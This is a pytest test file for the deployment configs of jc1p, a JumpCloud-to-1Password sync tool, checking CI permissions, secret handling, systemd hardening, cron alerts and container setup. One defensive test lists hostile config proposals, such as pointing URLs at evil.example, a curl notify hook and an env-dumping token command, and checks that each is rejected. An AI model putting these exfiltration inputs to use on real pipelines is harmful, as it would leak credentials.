"""deploy/ without linters: its command lines exist, its pipelines protect their secrets, its wrapper mails once."""

import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import typer
import yaml
from platformdirs import user_state_path
from support.deploying import CHART, DEPLOY, TOP, UNITS, WORKFLOWS, command_lines, documents, parse, parsed, scripts
from support.inprocess import jc1p
from support.installed import PROGRAM, config_for

from jc1p import __version__
from jc1p.cli import app
from jc1p.config import load_config
from jc1p.config.secrets import is_readable_by_others
from jc1p.sandbox.server import Sandbox
from jc1p.sandbox.world import make_world
from jc1p.state.lock import hold_lock

GITLAB = DEPLOY / "gitlab" / ".gitlab-ci.yml"
DOCKERFILE = (DEPLOY / "docker" / "Dockerfile").read_text()
CONFIG = """
jumpcloud: {region: us, api_key: "${JUMPCLOUD_API_KEY}"}
onepassword: {scim_url: https://scim.example.com, token: "${OP_SCIM_TOKEN}"}
scope: {application: 1Password Business}
"""

Command = list[str | Path]
COMMANDS: Any = typer.main.get_command(app)


# --- command lines ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("where", "words"), command_lines())
def test_command_line_that_is_shown_is_one_that_jc1p_takes(where: str, words: list[str]) -> None:
    parse(words)


@pytest.mark.parametrize(("where", "words"), [each for each in command_lines() if each[1][:2] != ["report", "merge"]])
def test_command_line_names_its_configuration(where: str, words: list[str]) -> None:
    """In containers and checkouts the file may belong to another user, and is refused unless it was named."""
    by_wrapper = where == "docs/deploy.md" and words in (["doctor"], ["sync", "--dry-run"])  # jc1p-as-service names it
    assert "--config" in words or by_wrapper


def test_image_names_its_configuration() -> None:
    assert re.search(r"^ENV .*(\\\n.*)*JC1P_CONFIG=/etc/jc1p/config.yaml", DOCKERFILE, re.MULTILINE)


def test_every_place_runs_jc1p() -> None:
    places = {where for where, _ in command_lines()}
    assert {*scripts(), "deploy/kubernetes/indexed-job.yaml", "deploy/helm/jc1p"} == places


def test_command_line_that_jc1p_would_not_take_is_found() -> None:
    for words in (["sink"], ["drift", "--no-such"], ["apply"], ["sync", "--output", "nothing"]):
        with pytest.raises(typer.TyperException):
            parse(words)


# --- schedules ----------------------------------------------------------------------------------------------

EVERY_15_MINUTES = {
    "deploy/cron/jc1p.crontab": "\n7-52/15 * * * * ",
    "deploy/github/apply.yml": '- cron: "7-52/15 * * * *"',
    "deploy/gitlab/.gitlab-ci.yml": '"7-52/15 * * * *"',
    "deploy/helm/jc1p/values.yaml": 'schedule: "7-52/15 * * * *"',
    "deploy/systemd/jc1p.timer": "OnCalendar=*:0/15",
    "deploy/systemd/jc1p@.timer": "OnCalendar=*:0/15",
    "docs/quick-start.md": "\n7-52/15 * * * * ",
}


@pytest.mark.parametrize("place", EVERY_15_MINUTES)
def test_every_schedule_of_a_sync_is_every_15_minutes(place: str) -> None:
    """The alerts, the dead man's switch and the tables of costs count on it."""
    assert EVERY_15_MINUTES[place] in (TOP / place).read_text(encoding="utf-8")


# --- pipelines ----------------------------------------------------------------------------------------------


def jobs(path: Path) -> dict[str, dict[str, Any]]:
    found: dict[str, dict[str, Any]] = parsed(path)["jobs"]
    return found


def talks(job: dict[str, Any]) -> bool:
    return "secrets." in yaml.safe_dump(job)


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
def test_workflow_has_no_more_rights_than_it_needs(path: Path) -> None:
    assert parsed(path)["permissions"] == {}
    for name, job in jobs(path).items():
        assert job["permissions"] == ({"pull-requests": "write"} if name == "comment" else {"contents": "read"})
        assert not (talks(job) and "write" in job["permissions"].values())
        assert job["timeout-minutes"] <= 120
        for step in job["steps"]:
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
def test_workflow_runs_actions_by_digest_and_no_text_of_others(path: Path) -> None:
    text = path.read_text()
    uses = re.findall(r"uses: (.*)", text)
    assert uses
    assert all(re.fullmatch(r"actions/[a-z/-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+", each) for each in uses)
    runs = [step["run"] for job in jobs(path).values() for step in job["steps"] if "run" in step]
    assert not any("${{" in each for each in runs)


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
def test_workflow_gives_secrets_only_where_an_environment_guards_them_and_to_jc1p_alone(path: Path) -> None:
    tree = parsed(path)
    assert "pull_request_target" not in path.read_text()
    assert "env" not in tree
    for job in jobs(path).values():
        assert talks(job) == ("environment" in job)
        assert "env" not in job
        for step in job["steps"]:
            assert "secrets." not in str(step) or step["run"].startswith("jc1p ")


def test_forks_get_no_plan_and_a_proposal_is_read_by_the_program_that_is_merged() -> None:
    plan = jobs(DEPLOY / "github" / "plan.yml")["plan"]
    assert "github.event.pull_request.head.repo.full_name == github.repository" in plan["if"]
    assert "github.event.repository.private" in plan["if"]
    runs = [step["run"] for step in plan["steps"] if "run" in step]
    assert [run for run in runs if "proposed" in run] == [
        "python -I merged/vendor/only_policy_differs.py merged/jc1p.yaml proposed/jc1p.yaml",
        "differ=true\n"
        "if cmp --silent merged/jc1p.yaml proposed/jc1p.yaml; then differ=false; fi\n"
        'echo "differ=$differ" >> "$GITHUB_OUTPUT"\n',
        "jc1p plan --config merged/jc1p.yaml --compare proposed/jc1p.yaml --report plan.json --report plan.md",
    ]
    plans = [run.split()[:4] for run in runs if "jc1p plan" in run]
    assert plans == [["jc1p", "plan", "--config", "merged/jc1p.yaml"]] * 2
    assert not any("--out" in run for run in runs)


def test_preview_of_gitlab_compares_with_what_is_merged_and_saves_no_plan() -> None:
    preview = parsed(GITLAB)["preview"]
    plans = [line.split() for each in preview["script"] for line in each.splitlines() if "jc1p plan" in line]
    assert all(words[:4] == ["jc1p", "plan", "--config", "/tmp/merged/jc1p.yaml"] for words in plans)
    assert [words[4:6] for words in plans] == [["--report", "plan.json"], ["--compare", "jc1p.yaml"]]
    assert not any("cp " in line or "--out" in line for line in [*preview["before_script"], *preview["script"]])


def test_two_applies_never_run_at_once_and_none_is_cut_off() -> None:
    concurrency = {path.name: parsed(path)["concurrency"] for path in WORKFLOWS}
    assert concurrency["apply.yml"] == {"group": "jc1p-apply", "cancel-in-progress": False}
    assert len({each["group"] for each in concurrency.values()}) == len(WORKFLOWS) == 3
    tree = parsed(GITLAB)
    assert tree[".talks"]["resource_group"] == "jc1p"
    for name in ("preview", "plan", "apply", "drift"):
        assert ".talks" in extended(tree, name)
        assert "resource_group" not in tree[name]


def test_gitlab_scripts_are_text_and_apply_takes_the_plan_of_its_pipeline() -> None:
    tree = parsed(GITLAB)
    for job in tree.values():
        if isinstance(job, dict):
            lines = [*job.get("script", []), *job.get("before_script", [])]
            assert all(isinstance(line, str) for line in lines)
    assert tree["apply"]["needs"] == ["plan"]
    assert tree["apply"]["cache"]["when"] == "always"
    assert tree["apply"]["rules"] == tree["plan"]["rules"]
    preview = tree["preview"]
    assert "$CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_PROJECT_ID" in preview["rules"][0]["if"]
    assert any("only_policy_differs.py" in line for line in preview["before_script"])


# --- files that a proposal could have planted ---------------------------------------------------------------


def extended(tree: dict[str, Any], name: str) -> list[str]:
    """A job of GitLab and those it extends, nearest first."""
    found = [name]
    while base := tree[found[-1]].get("extends"):
        found.append(base)
    return found


def test_job_with_credentials_on_a_proposal_unpacks_no_cache() -> None:
    """The author of a proposal can fill a cache of that branch, and unpacked files may replace the program."""
    text = (DEPLOY / "github" / "plan.yml").read_text()
    assert "actions/cache" not in text
    assert not [step for job in jobs(DEPLOY / "github" / "plan.yml").values() for step in job["steps"]
                if "cache" in step.get("with", {})]  # fmt: skip
    tree = parsed(GITLAB)
    proposals = [name for name, job in tree.items() if "merge_request_event" in str(job) and "script" in job]
    assert proposals == ["config", "preview"]
    assert not [each for name in proposals for each in extended(tree, name) if "cache" in tree[each]]
    assert "cache" not in tree["default"]
    assert [name for name in tree if "cache" in tree[name]] == [".remembers", "apply"]


def shell(script: str, folder: Path, **variables: str) -> subprocess.CompletedProcess[str]:
    """Lines of a pipeline, run like its service does: the first failure ends it."""
    path = f"{folder / 'bin'}{os.pathsep}{os.environ['PATH']}"
    return subprocess.run(
        ["bash", "-eo", "pipefail", "-c", script], capture_output=True, text=True, check=False, cwd=folder,
        env={"PATH": path, "HOME": str(folder), **variables},
    )  # fmt: skip


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
@pytest.mark.parametrize(("told", "code"), [("echo true", 0), ("echo false", 1), ("exit 1", 1), ("echo", 1)])
def test_workflow_ends_before_it_reads_anything_where_the_repository_is_not_known_to_be_private(
    path: Path, tmp_path: Path, told: str, code: int
) -> None:
    job, *others = [job for job in jobs(path).values() if talks(job)]
    first = job["steps"][0]
    assert first["env"] == {"GH_TOKEN": "${{ github.token }}"}
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "gh").write_text(f"#!/bin/sh\n{told}\n")
    (tmp_path / "bin" / "gh").chmod(0o755)
    assert shell(first["run"], tmp_path, GITHUB_REPOSITORY="acme/config").returncode == code
    assert all("needs" in other for other in others)


def gitlab_step(containing: str) -> str:
    (found,) = (line for line in parsed(GITLAB)[".jc1p"]["before_script"] if containing in line)
    return str(found)


@pytest.mark.skipif(not shutil.which("git"), reason="git is not installed")
def test_state_that_is_in_the_repository_is_refused_by_gitlab(tmp_path: Path) -> None:
    step = gitlab_step("git ls-files")
    assert shell(step, tmp_path).returncode != 0, "what can't be asked is not believed"
    assert shell("git init --quiet", tmp_path).returncode == 0
    (tmp_path / ".state").mkdir()
    (tmp_path / ".state" / "state.db").write_text("from the cache")
    assert shell(step, tmp_path).returncode == 0
    assert shell("git add --force .state", tmp_path).returncode == 0
    refused = shell(step, tmp_path)
    assert (refused.returncode, "in the repository" in refused.stdout) == (1, True)


def test_state_is_outside_the_checkout_and_comes_back_by_the_cache(tmp_path: Path) -> None:
    tree = parsed(GITLAB)
    assert "PROJECT_DIR" not in tree["variables"]["XDG_STATE_HOME"]
    steps = tree[".jc1p"]["before_script"]
    prepare = "\n".join(steps[steps.index('rm -rf "$XDG_STATE_HOME"') :])
    keep = "\n".join(tree["apply"]["after_script"])
    state, checkout = tmp_path / "state", tmp_path / "checkout"
    checkout.mkdir()
    for run in ("first", "second"):
        assert shell(f"{prepare}\ntrue", checkout, XDG_STATE_HOME=str(state)).returncode == 0
        assert state.stat().st_mode & 0o077 == 0
        kept = state / "jc1p" / "state.db"
        assert kept.exists() == (run == "second")
        kept.parent.mkdir(exist_ok=True)
        kept.write_text(run)
        assert shell(keep, checkout, XDG_STATE_HOME=str(state)).returncode == 0
        assert (checkout / ".state" / "jc1p" / "state.db").read_text() == run


def test_gitlab_ends_before_it_reads_anything_where_the_project_is_not_private(tmp_path: Path) -> None:
    for step in (gitlab_step("VISIBILITY"), parsed(GITLAB)["preview"]["before_script"][0]):
        for visibility, code in (("private", 0), ("internal", 1), ("public", 1)):
            assert shell(step, tmp_path, CI_PROJECT_VISIBILITY=visibility).returncode == code


def runner(sandbox: Sandbox, folder: Path) -> tuple[Path, Path]:
    """A fresh runner: the configuration is checked out, no state; returns the folders of configuration and state."""
    folder.mkdir()
    config = config_for(sandbox, folder, replace=(str(folder / "state"), "kept"))
    return config, folder / "kept"


def test_plan_of_one_runner_is_applied_by_another_and_refused_once_it_has_moved(tmp_path: Path) -> None:
    with Sandbox(make_world(users=30, groups=6)) as sandbox:
        first, second, third = (runner(sandbox, tmp_path / name) for name in ("first", "second", "third"))
        saved = first[0].parent / "plan.json"
        assert jc1p("plan", "--config", first[0], "--out", saved).code == 0
        applied = jc1p("apply", saved, "--config", second[0], "--yes")
        assert (applied.code, applied.out.count("Applied ") == 1) == (0, True), applied.err
        shutil.copytree(second[1], third[1])  # as the cache restores it
        assert jc1p("drift", "--config", third[0]).code == 0
        assert jc1p("apply", saved, "--config", third[0], "--yes").code == 4


def compare(folder: Path, proposed: str) -> tuple[int, str]:
    trusted, other = folder / "trusted.yaml", folder / "proposed.yaml"
    trusted.write_text(CONFIG)
    if not other.is_symlink():
        other.write_text(proposed)
    done = subprocess.run(
        [sys.executable, "-I", DEPLOY / "ci" / "only_policy_differs.py", trusted, other],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert "Traceback" not in done.stderr
    return done.returncode, done.stderr


@pytest.mark.parametrize(
    ("proposed", "said"),
    [
        (CONFIG.replace("scim.example", "evil.example"), "'onepassword' differs"),
        (CONFIG.replace("region: us", "region: us, url: https://evil.example"), "'jumpcloud' differs"),
        (CONFIG.replace('"${OP_SCIM_TOKEN}"', "{command: [env]}"), "'onepassword' differs"),
        (CONFIG + "notify: [{command: [curl, evil.example]}]", "'notify' differs"),
        (CONFIG + "state: {path: /tmp}", "'state' differs"),
        (CONFIG.replace("1Password Business", '"${OP_SCIM_TOKEN}"'), "'scope' differs and contains ${...}"),
        (CONFIG.replace('"${OP_SCIM_TOKEN}"', '"${OP_SCIM_TOKEN:-x}"'), "'onepassword' differs"),
        (CONFIG.replace('"${OP_SCIM_TOKEN}"', '"$${OP_SCIM_TOKEN}"'), "'onepassword' differs"),
        (CONFIG.replace("region: us", "region: us, url: "), "'jumpcloud' differs"),
        (CONFIG.replace("region: us", "region: us, url: ''"), "an empty text"),
        (CONFIG.replace("region: us", "region: us, org_id: ' '"), "an empty text"),
        (CONFIG.replace("scope: {", "scope: &a {again: *a, "), "anchor or alias"),
        (CONFIG.replace("us,", "&r us,") + "users: {protected: [*r]}", "anchor or alias"),
        (CONFIG.replace("us,", "!!str us,"), "a tag or directive"),
        (CONFIG.replace("us,", "! us,"), "a tag or directive"),
        ("%YAML 1.1\n---" + CONFIG, "a tag or directive"),
        (CONFIG + "jumpcloud: {url: https://evil.example, api_key: x}", "duplicate key"),
        (CONFIG.replace("region: us", "region: us, region: eu"), "duplicate key"),
        (CONFIG + "? [jumpcloud]\n: {url: https://evil.example}", "a key must be plain text"),
        (CONFIG + "---" + CONFIG, "not YAML"),
        (CONFIG + '"x\\n::error::y": 1', "'x\\n::error::y' differs"),
        ("guard: " + "[" * 3000, "not YAML"),
        ("#" * 1_000_001, "larger than"),
        ("[]", "has no sections"),
        ("a: [", "not YAML"),
    ],
)
def test_proposal_that_could_carry_credentials_off_gets_no_preview(tmp_path: Path, proposed: str, said: str) -> None:
    code, err = compare(tmp_path, proposed)
    assert code == 1
    assert said in err


def test_proposal_of_another_policy_is_previewed(tmp_path: Path) -> None:
    assert compare(tmp_path, CONFIG + "guard: {suspensions: 3}\nusers: {protected: [ann@example.com]}") == (0, "")
    assert compare(tmp_path, CONFIG.replace("1Password Business", "Another")) == (0, "")


def test_proposal_that_links_to_another_file_is_not_read(tmp_path: Path) -> None:
    (tmp_path / "proposed.yaml").symlink_to("/etc/hostname")
    code, err = compare(tmp_path, "")
    assert code == 1
    assert "is not a plain file" in err


# --- systemd ------------------------------------------------------------------------------------------------


def test_units_configuration_takes_its_secrets_from_systemds_credentials(tmp_path: Path) -> None:
    for name in ("jumpcloud-api-key", "op-scim-token"):
        (tmp_path / name).write_text("secret\n")
        (tmp_path / name).chmod(0o400)
        assert f"LoadCredential={name}:/etc/jc1p/credentials/{name}\n" in (UNITS / "jc1p.service").read_text()
    environment = {"CREDENTIALS_DIRECTORY": str(tmp_path), "STATE_DIRECTORY": "/var/lib/jc1p"}
    loaded = load_config(UNITS / "config.yaml", environment)
    assert str(loaded.config.state.path) == "/var/lib/jc1p"
    assert not loaded.warnings


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away, as systemd and Kubernetes do")
def test_secret_of_roots_that_reaches_us_by_the_group_is_not_warned_about(tmp_path: Path) -> None:
    secret = tmp_path / "token"
    secret.write_text("secret")
    secret.chmod(0o440)
    assert is_readable_by_others(secret)
    os.chown(secret, 65534, -1)
    assert not is_readable_by_others(secret)
    secret.chmod(0o444)
    assert is_readable_by_others(secret)


def test_instances_of_the_unit_are_as_locked_up_as_the_unit() -> None:
    one, many = ((UNITS / name).read_text().splitlines() for name in ("jc1p.service", "jc1p@.service"))
    assert [line for line in one if line not in many and "/etc/jc1p" not in line and not line.startswith("#")] == [
        "Description=Sync 1Password with JumpCloud", "User=jc1p", "StateDirectory=jc1p",
    ]  # fmt: skip


@pytest.mark.parametrize("name", ["jc1p.service", "jc1p@.service", "jc1p-failed@.service"])
def test_unit_keeps_what_no_score_would_miss(name: str) -> None:
    lines = set((UNITS / name).read_text().splitlines())
    assert {
        "Type=oneshot", "DynamicUser=yes", "NoNewPrivileges=yes", "ProtectSystem=strict", "ProtectHome=yes",
        "PrivateTmp=yes", "CapabilityBoundingSet=", "MemoryDenyWriteExecute=yes", "UMask=0077",
        "SystemCallFilter=@system-service", "SystemCallFilter=~@privileged @resources",
    } <= lines  # fmt: skip
    if "failed" not in name:
        assert {"SuccessExitStatus=6 130", "OnFailure=jc1p-failed@%n.service"} <= lines


# --- cron ---------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    with Sandbox(make_world(users=30, groups=6)) as made:
        yield made


def cron(folder: Path, *command: str | Path) -> tuple[int, str]:
    """One run by cron: the exit code, and the mail that would be sent."""
    done = subprocess.run(
        [DEPLOY / "cron" / "jc1p-cron", *command],
        env={"HOME": str(folder), "PATH": os.environ["PATH"], "SHELL": "/bin/sh"},
        capture_output=True, text=True, check=False, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    return done.returncode, done.stdout + done.stderr


def turn_a_day(folder: Path) -> None:
    (said,) = folder.rglob("said")
    when = said.stat().st_mtime - 86_500
    os.utime(said, (when, when))


def trouble_and_its_end(folder: Path, good: Command, bad: Command, said: str) -> None:
    """Five runs by cron, of which three send a mail."""
    assert cron(folder, *good) == (0, "")
    code, mail = cron(folder, *bad)
    assert (code, "exit code 2: usage or configuration error" in mail, said in mail) == (2, True, True)
    assert cron(folder, *bad) == (2, "")
    turn_a_day(folder)
    assert "exit code 2" in cron(folder, *bad)[1]
    code, mail = cron(folder, *good)
    assert (code, "jc1p works again" in mail, "exit code 2" in mail) == (0, True, True)
    assert cron(folder, *good) == (0, "")
    assert not list((folder / ".local").rglob("output.*"))


def test_cron_mails_trouble_once_then_daily_and_its_end_once(tmp_path: Path) -> None:
    trouble_and_its_end(tmp_path, ["sh", "-c", "echo synced"], ["sh", "-c", "echo no file >&2; exit 2"], "no file")


@pytest.mark.matrix
def test_cron_mails_the_trouble_of_real_runs(sandbox: Sandbox, tmp_path: Path) -> None:
    good: Command = [PROGRAM, "--config", config_for(sandbox, tmp_path), "sync", "--yes"]
    bad: Command = [PROGRAM, "--config", tmp_path / "none.yaml", "sync", "--yes"]
    trouble_and_its_end(tmp_path, good, bad, "none.yaml")


def test_cron_mails_another_trouble_at_once(tmp_path: Path) -> None:
    assert "exit code 5: applied in part" in cron(tmp_path, "sh", "-c", "exit 5")[1]
    assert "exit code 4: blocked by a safety limit" in cron(tmp_path, "sh", "-c", "echo the plan; exit 4")[1]
    assert "exit code 127: the program can't be run" in cron(tmp_path, tmp_path / "gone")[1]


def test_cron_is_quiet_when_somebody_stops_a_run_and_never_when_nothing_was_run(tmp_path: Path) -> None:
    assert cron(tmp_path, "sh", "-c", "echo half of it; exit 130") == (130, "")
    code, said = cron(tmp_path)
    assert (code, "nothing was run" in said) == (2, True)


def test_run_that_meets_another_is_quiet_until_it_has_been_so_three_times(tmp_path: Path) -> None:
    met: Command = ["sh", "-c", "echo another runs; exit 6"]
    assert [cron(tmp_path, *met) for _ in range(2)] == [(6, "")] * 2
    code, mail = cron(tmp_path, *met)
    assert (code, "does it hang?" in mail) == (6, True)
    assert "works again" in cron(tmp_path, "true")[1]
    assert cron(tmp_path, *met) == (6, "")


@pytest.mark.matrix
def test_real_run_that_meets_another_is_quiet_until_it_has_been_so_three_times(
    sandbox: Sandbox, tmp_path: Path
) -> None:
    run: Command = [PROGRAM, "--config", config_for(sandbox, tmp_path), "sync", "--yes"]
    assert cron(tmp_path, *run) == (0, "")
    (state,) = {path.parent for path in (tmp_path / "state").rglob("state.db")}
    with hold_lock(state, "run 20261124T000000Z-0000"):
        assert [cron(tmp_path, *run) for _ in range(2)] == [(6, "")] * 2
        code, mail = cron(tmp_path, *run)
        assert (code, "does it hang?" in mail) == (6, True)
    assert "works again" in cron(tmp_path, *run)[1]
    assert cron(tmp_path, "sh", "-c", "exit 6") == (6, "")


def test_memory_that_can_not_be_written_runs_nothing(tmp_path: Path) -> None:
    (tmp_path / ".local").write_text("in the way")
    code, mail = cron(tmp_path, "touch", tmp_path / "ran")
    assert (code, "can't be written; nothing was run" in mail) == (1, True)
    assert not (tmp_path / "ran").exists()


# --- container and Kubernetes -------------------------------------------------------------------------------


def image_environment() -> dict[str, str]:
    (block,) = re.findall(r"^ENV (PATH=.*?)(?:\nUSER)", DOCKERFILE, re.DOTALL | re.MULTILINE)
    return dict(word.split("=", 1) for word in block.replace("\\\n", " ").split())


def test_image_is_no_roots_and_keeps_its_state_where_the_volume_is(monkeypatch: pytest.MonkeyPatch) -> None:
    last = DOCKERFILE.rpartition("\nFROM ")[2]
    assert "\nUSER 65532:65532\n" in last
    assert 'ENTRYPOINT ["/opt/jc1p/bin/jc1p"]' in last
    assert "RUN" not in re.findall(r"^[A-Z]+", last, re.MULTILINE)
    monkeypatch.setenv("XDG_STATE_HOME", image_environment()["XDG_STATE_HOME"])
    assert str(user_state_path("jc1p")) == "/var/lib/jc1p"
    assert 'VOLUME ["/var/lib/jc1p"]' in last
    assert f"ARG VERSION={__version__}\n" in last


def test_image_is_built_from_the_source_alone() -> None:
    ignored = (TOP / ".dockerignore").read_text().splitlines()
    kept = {line[1:] for line in ignored if line.startswith("!")}
    copied = {word for words in re.findall(r"^COPY ([^-].*) \S+$", DOCKERFILE, re.MULTILINE) for word in words.split()}
    assert "*" in ignored
    assert kept == copied
    assert all((TOP / each).exists() for each in kept)


READ_ONLY = """
set -e
mount --make-rprivate /
mount --bind "$1" "$1"
for mount in $(awk '{print $5}' /proc/self/mountinfo); do
  case $mount in "$1" | /proc* | /sys* | /dev*) ;; *) mount -o remount,bind,ro "$mount" ;; esac
done
if touch /tmp/writable 2>/dev/null; then echo "the file system is writable"; exit 99; fi
shift
cd /
exec "$@"
"""


def test_only_the_state_folder_is_written_to(tmp_path: Path) -> None:
    if not shutil.which("unshare") or subprocess.run(["unshare", "--mount", "true"], check=False).returncode:
        pytest.skip("this user may not make mounts of its own")
    (tmp_path / "state").mkdir()
    environment = {**image_environment(), "PATH": os.environ["PATH"], "HOME": "/nonexistent"}
    with Sandbox(make_world(users=30, groups=6)) as sandbox:
        command: Command = [PROGRAM, "--config", config_for(sandbox, tmp_path), "sync", "--yes"]
        done = subprocess.run(
            ["unshare", "--mount", "sh", "-c", READ_ONLY, "sh", tmp_path / "state", *command],
            env=environment, capture_output=True, text=True, check=False, stdin=subprocess.DEVNULL,
        )  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr
    assert "\nApplied " in done.stdout
    assert list((tmp_path / "state").rglob("*.jsonl"))
    assert {path.name for path in tmp_path.iterdir()} == {"jc1p.yaml", "state"}


def test_chart_is_of_this_version_and_its_configuration_is_one() -> None:
    chart, values = parsed(CHART / "Chart.yaml"), parsed(CHART / "values.yaml")
    assert chart["appVersion"] == __version__
    secrets = (values["config"]["jumpcloud"]["api_key"], values["config"]["onepassword"]["token"])
    assert [f"/run/secrets/jc1p/{key}" for key in values["secret"]["keys"]] == [each["file"] for each in secrets]


def test_indexed_job_gives_each_pod_its_own_configuration_and_state_and_sums_all_up() -> None:
    runs, summary = documents((DEPLOY / "kubernetes" / "indexed-job.yaml").read_text())
    spec = runs["spec"]
    assert (spec["completionMode"], spec["backoffLimitPerIndex"]) == ("Indexed", 0)
    (container,) = spec["template"]["spec"]["containers"]
    index = "$(JOB_COMPLETION_INDEX)"
    assert {"/etc/jc1p/" + index + ".yaml", "/reports/" + index + ".json"} <= set(container["args"])
    mounts = {mount["mountPath"]: mount for mount in container["volumeMounts"]}
    assert mounts["/var/lib/jc1p"]["subPathExpr"] == "state-" + index
    assert mounts["/reports"]["subPathExpr"] == "reports/" + index
    assert container["env"][0]["name"] == "JOB_COMPLETION_INDEX"
    (merge,) = summary["spec"]["template"]["spec"]["containers"]
    assert merge["args"] == ["report", "merge", *(f"/reports/{n}/{n}.json" for n in range(spec["completions"]))]


def test_pod_of_the_indexed_job_sees_the_secret_of_its_own_pair_alone() -> None:
    runs, summary = documents((DEPLOY / "kubernetes" / "indexed-job.yaml").read_text())
    pod = runs["spec"]["template"]["spec"]
    volumes = {volume["name"]: volume for volume in pod["volumes"]}
    assert not [volume for volume in volumes.values() if "secret" in volume]
    (mount,) = [each for each in pod["containers"][0]["volumeMounts"] if "projected" in volumes[each["name"]]]
    assert mount["subPathExpr"] == "$(JOB_COMPLETION_INDEX)"
    assert "envFrom" not in pod["containers"][0]
    assert "secretKeyRef" not in str(runs)
    sources = [source["secret"] for source in volumes[mount["name"]]["projected"]["sources"]]
    assert [source["name"] for source in sources] == [f"jc1p-fleet-{n}" for n in range(runs["spec"]["completions"])]
    for number, source in enumerate(sources):
        assert {item["path"] for item in source["items"]} == {f"{number}/{item['key']}" for item in source["items"]}
    assert "secret" not in str(summary["spec"]).lower()
